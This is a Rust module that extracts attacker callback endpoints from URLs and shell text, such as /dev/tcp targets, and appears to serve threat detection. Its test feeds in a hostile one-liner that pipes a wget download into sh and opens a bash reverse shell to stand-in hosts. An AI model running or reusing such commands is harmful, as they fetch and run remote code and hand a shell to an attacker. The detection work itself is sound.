//! Addresses that attackers call back to or fetch from, in one form: `host:port`, lower case.

use std::net::IpAddr;

/// Endpoints kept of one text.
const MOST: usize = 16;
const SCHEMES: [(&str, u16); 9] =
    [("http", 80), ("https", 443), ("ftp", 21), ("tftp", 69), ("tcp", 0), ("udp", 0), ("tls", 443), ("ldap", 389), ("rmi", 1099)];

/// The endpoint of one address as a tool was given it, with or without a scheme.
pub fn of_url(url: &str) -> Option<String> {
    let (scheme, rest) = url.split_once("://").unwrap_or(("http", url));
    let default = SCHEMES.iter().find(|(name, _)| name.eq_ignore_ascii_case(scheme)).map_or(0, |(_, port)| *port);
    let authority = rest.split(['/', '?', '#', ' ', '\'', '"', '`', ')', ';', '|', '<', '>']).next()?;
    let authority = authority.rsplit('@').next()?;
    let (host, port) = match authority.rsplit_once(':') {
        Some((host, port)) if !host.ends_with(':') && !port.is_empty() => (host, port.parse().ok()?),
        _ => (authority, default),
    };
    let host = host.trim_matches(['[', ']']).trim_end_matches('.').to_ascii_lowercase();
    let plain = host.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_' | b':'));
    if host.is_empty()
        || host.len() > 253
        || !plain
        || host == "localhost"
        || host.parse::<IpAddr>().is_ok_and(|ip| ip.is_loopback() || ip.is_unspecified())
    {
        return None;
    }
    Some(if port == 0 { host } else { format!("{host}:{port}") })
}

/// Endpoints written in free text: addresses with a scheme, and the shell's `/dev/tcp/host/port`. Names without a dot and
/// private addresses are the inside of a network and left out.
pub fn in_text(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let text = text.get(..text.len().min(65_536)).unwrap_or(text);
    for (at, _) in text.match_indices("://").take(MOST) {
        let before = text.get(..at).unwrap_or_default();
        let scheme = before.rsplit(|c: char| !c.is_ascii_alphanumeric()).next().unwrap_or_default();
        if SCHEMES.iter().any(|(name, _)| name.eq_ignore_ascii_case(scheme)) {
            let rest = text.get(at + 3..).unwrap_or_default();
            out.extend(of_url(&format!("{scheme}://{rest}")).filter(|e| outside(e)));
        }
    }
    for marker in ["/dev/tcp/", "/dev/udp/"] {
        for (at, _) in text.match_indices(marker).take(MOST) {
            let rest = text.get(at + marker.len()..).unwrap_or_default();
            let mut words = rest.split(['/', ' ', '\'', '"', ';', '&', ')', '>', '<']);
            if let (Some(host), Some(port)) = (words.next(), words.next()) {
                out.extend(of_url(&format!("tcp://{host}:{port}")).filter(|e| outside(e)));
            }
        }
    }
    out.sort_unstable();
    out.dedup();
    out
}

fn outside(endpoint: &str) -> bool {
    let host = match endpoint.rsplit_once(':') {
        Some((host, port)) if port.bytes().all(|b| b.is_ascii_digit()) => host,
        _ => endpoint,
    };
    match host.parse::<IpAddr>() {
        Ok(IpAddr::V4(v4)) => !v4.is_private() && !v4.is_link_local(),
        Ok(IpAddr::V6(v6)) => !v6.is_unique_local() && !v6.is_unicast_link_local(),
        Err(_) => host.contains('.'),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn one_form_for_one_place() {
        for (url, expect) in [
            ("http://Evil.Test/x.sh", Some("evil.test:80")),
            ("evil.test:443", Some("evil.test:443")),
            ("tcp://203.0.113.9:4444", Some("203.0.113.9:4444")),
            ("https://u:p@evil.test:8443/a?b", Some("evil.test:8443")),
            ("http://127.0.0.1/", None),
            ("", None),
        ] {
            assert_eq!(of_url(url).as_deref(), expect, "{url}");
        }
        assert_eq!(
            in_text("cd /tmp; wget http://evil.test/a -O- | sh; bash -i >& /dev/tcp/203.0.113.9/443 0>&1"),
            ["203.0.113.9:443", "evil.test:80"]
        );
        assert!(in_text("curl http://10.0.0.1/ http://intranet/ xyz://evil.test").is_empty());
    }
}
